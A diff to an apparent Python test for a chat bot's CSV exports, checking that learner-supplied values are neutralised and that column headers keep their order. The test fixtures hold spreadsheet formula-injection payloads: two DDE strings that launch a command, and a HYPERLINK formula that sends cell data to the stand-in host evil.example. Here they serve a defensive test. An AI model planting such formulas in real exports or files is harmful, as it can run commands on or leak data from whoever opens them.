@@ -13,6 +13,12 @@ from tests.standin import SlackStandIn
 from tests.support.harness import Bot, running_bot
 
 BOM = b"\xef\xbb\xbf"
+ANSWERS_HEADER = (
+    "learner_id,learner_name,course,lesson,question,kind,answer,correct,attempt,answered_at"
+)
+DISCUSSION_HEADER = (
+    "learner_id,learner_name,course,lesson,channel,thread_ts,reply_ts,text,replied_at"
+)
 EVIL_NAME = "=Cmd|' /C Calc'!A0"
 EVIL_ANSWER = "+SUM(1,1)*cmd|' /C calc'!A0"
 EVIL_REPLY = '=HYPERLINK("https://evil.example/?leak="&A1,"Open the lesson")'
@@ -95,18 +101,7 @@ def test_csv_exports_defuse_formulas_start_with_a_bom_and_leave_ungraded_answers
         assert main(["--env-file", str(env_file), "report", "habits", "--csv", str(out)]) == 0
         assert out.read_bytes() == uploads["habits-answers.csv"]
 
-    assert list(answers[0]) == [
-        "learner_id",
-        "learner_name",
-        "course",
-        "lesson",
-        "question",
-        "kind",
-        "answer",
-        "correct",
-        "attempt",
-        "answered_at",
-    ]
+    assert ",".join(answers[0]) == ANSWERS_HEADER  # the contract, unchanged
     mine = {(r["kind"], r["learner_id"]): r for r in answers}
     assert mine[("open", evil)]["learner_name"] == "'" + EVIL_NAME
     assert mine[("open", evil)]["answer"] == "'" + EVIL_ANSWER
@@ -120,14 +115,4 @@ def test_csv_exports_defuse_formulas_start_with_a_bom_and_leave_ungraded_answers
     [reply] = discussion
     assert (reply["learner_id"], reply["learner_name"]) == (evil, "'" + EVIL_NAME)
     assert reply["text"] == "'" + EVIL_REPLY
-    assert list(reply) == [
-        "learner_id",
-        "learner_name",
-        "course",
-        "lesson",
-        "channel",
-        "thread_ts",
-        "reply_ts",
-        "text",
-        "replied_at",
-    ]
+    assert ",".join(reply) == DISCUSSION_HEADER
